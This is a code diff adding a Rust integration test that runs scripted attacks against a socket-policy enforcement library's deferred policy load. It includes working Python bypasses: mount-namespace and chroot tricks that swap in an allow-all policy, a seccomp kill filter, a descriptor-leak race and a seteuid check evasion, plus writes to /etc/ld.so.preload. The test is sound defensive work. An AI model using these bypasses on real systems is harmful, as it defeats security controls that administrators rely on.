@@ -334,3 +334,170 @@ fn the_system_policy_read_at_the_first_ip_call_cannot_be_swapped_by_confining() 
     let f = p.wait();
     assert!(f.status.success(), "{f:?}");
 }
+
+/// Attacks on the deferred load of the system policy (review of cc75b92, c446acf).
+/// Each step should refuse the connect to 127.0.0.3 (or, for the `strict-*` steps,
+/// fail closed on a policy directory owned by uid 65534); each line names the hole.
+const ATTACK: &str = r#"
+cp "$SX_DIR/policy.yaml" /etc/sockexit/policy.yaml
+"$SX_CLI" apply --quiet /etc/sockexit/policy.yaml || fail apply
+echo $LIB > /etc/ld.so.preload
+mkdir -p /run/sx/jail/etc/sockexit
+printf 'version: 1\ndefault: allow\nrules: []\n' >/run/sx/jail/etc/sockexit/policy.yaml
+for m in raw-unshare-mount libc-clone-mount same-root-chroot seccomp-kill; do
+    echo "step $m $(env -i python3 "$SX_DIR/attack.py" $m /run/sx/jail 127.0.0.3:9 2>>"$SX_DIR/stderr")"
+done
+for n in 1 8; do
+    echo "step race-$n $(env -i python3 "$SX_DIR/attack.py" race-fds $n 127.0.0.3:9 2>>"$SX_DIR/stderr")"
+done
+# Unpublished (a run directory with no publication), from a directory uid 65534 owns.
+mkdir -p /run/sx/norun && chown 65534 /etc/sockexit || fail chown
+for m in none seteuid; do
+    echo "step strict-$m $(env -i SOCKEXIT_RUN_DIR=/run/sx/norun python3 "$SX_DIR/attack.py" $m /run/sx/jail 127.0.0.1:9 2>>"$SX_DIR/stderr")"
+done
+rm /etc/ld.so.preload
+echo "step done"
+"#;
+
+const ATTACK_PY: &str = r#"
+import ctypes, errno, os, socket, struct, sys, threading
+mode, jail, addr = sys.argv[1], sys.argv[2], sys.argv[3]
+host, port = addr.rsplit(":", 1)
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_void_p]
+MS_BIND, MS_REC, MS_PRIVATE, CLONE_NEWNS = 4096, 16384, 1 << 18, 0x00020000
+
+def connect():
+    s = socket.socket()
+    try:
+        s.connect((host, int(port)))
+        return "connected"
+    except OSError as e:
+        return "error %s %d" % (errno.errorcode[e.errno], e.errno)
+    finally:
+        s.close()
+
+def must(r, what):
+    if r != 0:
+        sys.exit("%s: %d" % (what, ctypes.get_errno()))
+
+def swap_view(root):
+    # Hide the publication, and put the jail's allow-all policy where the policy is.
+    must(libc.mount(b"sx-none", (root + "/run/sockexit").encode(), b"tmpfs", 0, None), "tmpfs")
+    must(libc.mount((jail + "/etc/sockexit").encode(), (root + "/etc/sockexit").encode(), None, MS_BIND, None), "bind")
+
+if mode == "raw-unshare-mount":
+    # HOLE: a new mount namespace past the unshare hook; "/" keeps its device and
+    # inode, so the root check does not see it.
+    must(libc.syscall(272, CLONE_NEWNS), "unshare")  # SYS_unshare
+    must(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None), "private")
+    swap_view("")
+elif mode == "libc-clone-mount":
+    # HOLE: glibc's clone(3) (not a raw system call) with CLONE_NEWNS: not hooked.
+    CB = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)
+    def child(_):
+        must(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None), "private")
+        swap_view("")
+        os.write(1, (connect() + "\n").encode())
+        return 0
+    cb = CB(child)
+    stack = ctypes.create_string_buffer(1 << 20)
+    libc.clone.argtypes = [CB, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
+    pid = libc.clone(cb, ctypes.addressof(stack) + (1 << 20), CLONE_NEWNS | 17, None)  # SIGCHLD
+    if pid < 0:
+        sys.exit("clone: %d" % ctypes.get_errno())
+    os.waitpid(pid, 0)
+    sys.exit(0)
+elif mode == "same-root-chroot":
+    # HOLE: a raw chroot into a bind mount of "/": same (dev, ino), so the load does
+    # not fail closed; the view under it has the jail's policy and no publication.
+    r = "/run/sx/r"
+    os.makedirs(r, exist_ok=True)
+    must(libc.mount(b"/", r.encode(), None, MS_BIND | MS_REC, None), "rbind")
+    swap_view(r)
+    must(libc.syscall(161, r.encode()), "chroot")  # SYS_chroot
+    os.chdir("/")
+elif mode == "seccomp-kill":
+    # HOLE: docs say such a process "fails closed"; with a kill action (libseccomp's
+    # SCMP_ACT_KILL, systemd's default) the deferred load's openat kills it instead.
+    f = [(0x20, 0, 0, 0), (0x15, 0, 1, 257), (0x06, 0, 0, 0x80000000), (0x06, 0, 0, 0x7fff0000)]
+    code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *i) for i in f))
+    prog = ctypes.create_string_buffer(struct.pack("HxxxxxxP", len(f), ctypes.addressof(code)))
+    must(libc.syscall(317, 1, 0, prog), "seccomp")  # SYS_seccomp(SET_MODE_FILTER)
+elif mode == "race-fds":
+    # HOLE: each thread racing the first load opens the audit log (directory and
+    # file); the losers' descriptors are never closed (audit::Sink has no Drop).
+    n = int(jail)
+    fds = lambda: len(os.listdir("/proc/self/fd"))
+    before = fds()
+    b = threading.Barrier(n)
+    def go():
+        b.wait()
+        connect()
+    ts = [threading.Thread(target=go) for _ in range(n)]
+    for t in ts:
+        t.start()
+    for t in ts:
+        t.join()
+    print("fds +%d" % (fds() - before))
+    sys.exit(0)
+elif mode == "seteuid":
+    # HOLE: started as root (strict recorded), but the permission check uses the
+    # euid at the load: a directory the dropped-to user owns is trusted.
+    os.seteuid(65534)
+print(connect())
+"#;
+
+#[test]
+fn attack_the_system_policy_read_late() {
+    if !can_run() || require("python3").is_none() {
+        return;
+    }
+    let dir = TempDir::new("system-attack");
+    dir.write(
+        "policy.yaml",
+        "version: 1\ndefault: allow\nrules:\n  \
+         - { name: no-dot3, action: deny, calls: [connect], remote: [127.0.0.3/32] }\n\
+         audit: { log: /run/sx/audit.jsonl, events: deny }\n",
+    );
+    dir.write("attack.py", ATTACK_PY);
+    let script = format!("{SETUP}{ATTACK}");
+    let mut c = Command::new("unshare");
+    c.args(["-m", "--propagation", "private", "sh", "-c", &script])
+        .env_clear()
+        .env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin")
+        .env("SX_CLI", cli_path())
+        .env("SX_LIB", preload_path())
+        .env("SX_EX", example_path("banner_server").parent().unwrap())
+        .env("SX_DIR", dir.path());
+    let mut p = Proc::start(c);
+    let mut got = Vec::new();
+    for m in [
+        "raw-unshare-mount",
+        "libc-clone-mount",
+        "same-root-chroot",
+        "seccomp-kill",
+    ] {
+        got.push((m, next(&mut p, &format!("step {m} ")), "error EACCES 13"));
+    }
+    let one = next(&mut p, "step race-1 ");
+    let eight = next(&mut p, "step race-8 ");
+    got.push(("race-8 (fds leaked by racing loads)", eight, "fds +2"));
+    assert_eq!(one, "fds +2", "one thread: the audit directory and file");
+    assert_eq!(next(&mut p, "step strict-none "), "error EACCES 13");
+    got.push((
+        "strict-seteuid",
+        next(&mut p, "step strict-seteuid "),
+        "error EACCES 13",
+    ));
+    next(&mut p, "step done");
+    let f = p.wait();
+    assert!(f.status.success(), "{f:?}");
+    let stderr = std::fs::read_to_string(dir.path().join("stderr")).unwrap_or_default();
+    let holes: Vec<String> = got
+        .iter()
+        .filter(|(_, g, want)| g != want)
+        .map(|(m, g, want)| format!("{m}: got {g:?}, want {want:?}"))
+        .collect();
+    assert!(holes.is_empty(), "holes:\n{}\n{stderr}", holes.join("\n"));
+}
